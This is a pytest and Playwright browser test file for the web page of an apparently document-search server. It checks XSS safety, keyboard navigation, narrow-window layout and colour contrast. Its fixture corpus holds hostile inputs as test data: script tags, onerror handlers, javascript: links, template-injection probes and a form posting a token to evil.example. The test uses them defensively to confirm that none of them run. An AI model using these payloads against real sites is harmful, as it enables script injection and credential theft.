"""The page in a real browser: a hostile corpus, with and without script, by keyboard alone, narrow and dark."""

from __future__ import annotations

import shutil
from urllib.parse import quote

import pytest
from http_daemon import Daemon, Place

sync_api = pytest.importorskip("playwright.sync_api", reason="playwright is not installed (the extra dev)")
CHROMIUM = shutil.which("chromium") or shutil.which("chromium-browser")
pytestmark = pytest.mark.skipif(CHROMIUM is None, reason="there is no chromium here")

HOSTILE = "docs/<img src=x onerror=\"document.title='owned'\"> {{7*7}}.md"
DAYS = {"2031-05-01": "eleven", "2031-05-02": "eleven", "2031-05-03": "twelve"}
CORPUS = {
    "docs/gate.md": "# Gates\n\nThe teal gate opens at dawn, says the porter.\n",
    HOSTILE: (
        "---\ntitle: <script>document.title='owned'</script>\ntags: ['<b>']\n---\n# \u202eforged <h1>\n\n"
        "The teal gate <script>document.title='owned'</script><img src=x onerror=\"document.title='owned'\">\n\n"
        "[gate](javascript:document.title='owned') {{ 7*7 }} {% raw %} ${7*7} <style>*{display:none}</style> "
        "<iframe src=javascript:alert(1)></iframe><form action=//evil.example><input name=token></form>\n"
    ),
    **{f"docs/weir-{day}.md": f"# Weir {day}\n\nThe teal gauge reads {height}.\n" for day, height in DAYS.items()},
    "docs/torn.md": "\0\0",
}
QUERY = "query=teal+gate&confidence=normal"
VIEWS = (
    f"ask?{QUERY}",
    "documents",
    "document?source=docs%2Fgate.md#L3",
    "series",
    "series?source=docs/weir-2031-05-02.md",
    f"profile?{QUERY}",
    "left",
    "freshness",
    "gaps",
    "evaluation",
)


@pytest.fixture(scope="module")
def place(tmp_path_factory):
    return Place(tmp_path_factory.mktemp("browser")).fill(CORPUS)


@pytest.fixture(scope="module")
def server(place):
    token = place.token("auditor")
    with Daemon(place, "--page") as daemon:
        yield f"http://rag-mcp.localhost:{daemon.port}/page", token


@pytest.fixture(scope="module")
def browser():
    with sync_api.sync_playwright() as playwright:
        browser = playwright.chromium.launch(executable_path=CHROMIUM, args=["--no-sandbox"])
        yield browser
        browser.close()


class Visitor:
    """A signed-in context of the browser; ``said`` is what its console and its page errors said."""

    def __init__(self, browser, server, **context: object) -> None:
        self.home, token = server
        self.context = browser.new_context(**context)
        self.page = self.context.new_page()
        self.said: list[str] = []
        self.asked_elsewhere: list[str] = []
        self.page.on("console", lambda message: self.said.append(message.text))
        self.page.on("pageerror", lambda error: self.said.append(str(error)))
        self.page.on("request", self._note)
        self.page.goto(f"{self.home}/login")
        self.page.fill("input[name=token]", token)
        self.page.click("main button")

    def _note(self, request) -> None:
        if not request.url.startswith(self.home):
            self.asked_elsewhere.append(request.url)

    def look(self, view: str) -> None:
        reply = self.page.goto(f"{self.home}/{view}")
        assert reply is None or reply.status == 200, view

    def check(self) -> None:
        assert self.said == [] and self.asked_elsewhere == []


@pytest.fixture(params=[True, False], ids=["script-on", "script-off"])
def visitor(browser, server, request):
    visitor = Visitor(browser, server, java_script_enabled=request.param)
    yield visitor
    visitor.context.close()


@pytest.fixture
def reader(browser, server):
    visitor = Visitor(browser, server)
    yield visitor
    visitor.context.close()


def test_no_view_runs_or_loads_anything_a_document_holds(visitor):
    for view in (*VIEWS, f"document?source={quote(HOSTILE)}", f"ask?query={quote(CORPUS[HOSTILE][:200])}"):
        visitor.look(view)
        assert visitor.page.title() != "owned"
        assert visitor.page.locator("script, iframe, img, style, [onerror], main a[href^='javascript']").count() == 0
        assert visitor.page.locator("h1").count() == 1
    visitor.look(f"document?source={quote(HOSTILE)}")
    assert "<script>document.title='owned'</script>" in visitor.page.locator("main").inner_text()
    visitor.check()


def test_from_signing_in_to_a_document_by_keyboard_alone(browser, server):
    home, token = server
    context = browser.new_context()
    page = context.new_page()
    page.goto(home)
    tab_to(page, "input[name=token]")
    page.keyboard.type(token)
    page.keyboard.press("Enter")
    page.wait_for_url("**/page/ask")
    tab_to(page, "#query")
    page.keyboard.type("teal gate opens at dawn")
    page.keyboard.press("Enter")
    page.wait_for_url("**/ask?query=teal*")
    tab_to(page, ".passages a.path")
    outlined = page.evaluate("getComputedStyle(document.activeElement).outlineStyle")
    page.keyboard.press("Enter")
    page.wait_for_url("**/page/document?**")
    assert outlined != "none" and "The teal gate" in page.locator("main").inner_text()
    context.close()


def tab_to(page, selector: str) -> None:
    for _ in range(80):
        page.keyboard.press("Tab")
        if page.evaluate("selector => document.activeElement.matches(selector)", selector):
            return
    raise AssertionError(f"{selector} is not reached by the Tab key")


def test_nothing_is_wider_than_a_narrow_window_and_all_of_it_can_be_named(reader):
    reader.page.set_viewport_size({"width": 360, "height": 640})
    for view in VIEWS:
        reader.look(view)
        width = reader.page.evaluate("document.documentElement.scrollWidth")
        assert width <= 360, (view, width)
        unnamed = reader.page.evaluate(
            "[...document.querySelectorAll('input:not([type=hidden]), select')].filter(each => !each.labels.length).length"
        )
        assert unnamed == 0, view


@pytest.mark.parametrize("scheme", ["light", "dark"])
def test_words_stand_out_from_what_is_behind_them(reader, scheme):
    reader.page.emulate_media(color_scheme=scheme)
    for view in (VIEWS[0], "freshness", "left"):
        reader.look(view)
        weakest = reader.page.evaluate(CONTRAST)
        assert weakest[0] >= 4.5, (view, weakest)


# The least contrast (WCAG 2) between the colour of a text and the nearest background that is not transparent.
CONTRAST = """() => {
  const parts = text => text.match(/[\\d.]+/g).map(Number);
  const light = ([r, g, b]) => [r, g, b].map(v => v / 255).map(v => v <= 0.03928 ? v / 12.92 : ((v + 0.055) / 1.055) ** 2.4)
    .reduce((sum, v, i) => sum + v * [0.2126, 0.7152, 0.0722][i], 0);
  const behind = each => { for (; each; each = each.parentElement) {
    const found = parts(getComputedStyle(each).backgroundColor); if (found.length < 4 || found[3] > 0) return found; }
    return parts(getComputedStyle(document.documentElement).backgroundColor); };
  let worst = [99, ''];
  for (const each of document.querySelectorAll('main *, header *')) {
    if (each.closest('svg') || ![...each.childNodes].some(n => n.nodeType === 3 && n.data.trim())) continue;
    const [a, b] = [light(parts(getComputedStyle(each).color)), light(behind(each))].sort((x, y) => y - x);
    const ratio = (a + 0.05) / (b + 0.05);
    if (ratio < worst[0]) worst = [ratio, each.outerHTML.slice(0, 120)];
  }
  return worst;
}"""
